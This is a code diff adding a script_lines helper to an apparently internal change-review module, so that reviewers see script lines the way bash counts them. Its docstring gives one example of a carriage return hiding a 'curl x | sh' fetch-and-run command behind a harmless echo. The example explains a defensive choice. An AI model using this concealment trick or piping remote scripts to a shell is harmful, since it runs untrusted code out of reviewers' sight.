@@ -15,7 +15,7 @@ from opsgen.redact import redact_tree
 from opsgen.store.models import Change, EvidenceRecord, ExportRecord, Revision
 from opsgen.store.repo import Store
 
-__all__ = ["Review", "load_review", "redact_tree"]
+__all__ = ["Review", "load_review", "redact_tree", "script_lines"]
 
 
 @dataclass(frozen=True, slots=True)
@@ -97,3 +97,13 @@ def load_review(store: Store, change_id: int, number: int | None = None) -> Revi
         state, revision, evidence, len(store.revisions(change_id)), tuple(store.exports(change_id))
     )
 
+
+def script_lines(text: str) -> list[str]:
+    """Lines as bash and the linters count them: split on ``\n`` only.
+
+    ``str.splitlines`` also breaks on ``\r``, form feeds and U+2028, which would show a
+    reviewer two lines where bash sees one (``echo ok\rcurl x | sh``) and shift every
+    finding after it; here a ``\r`` stays in its line and is shown escaped.
+    """
+    lines = text.split("\n")
+    return lines[:-1] if lines and lines[-1] == "" else lines
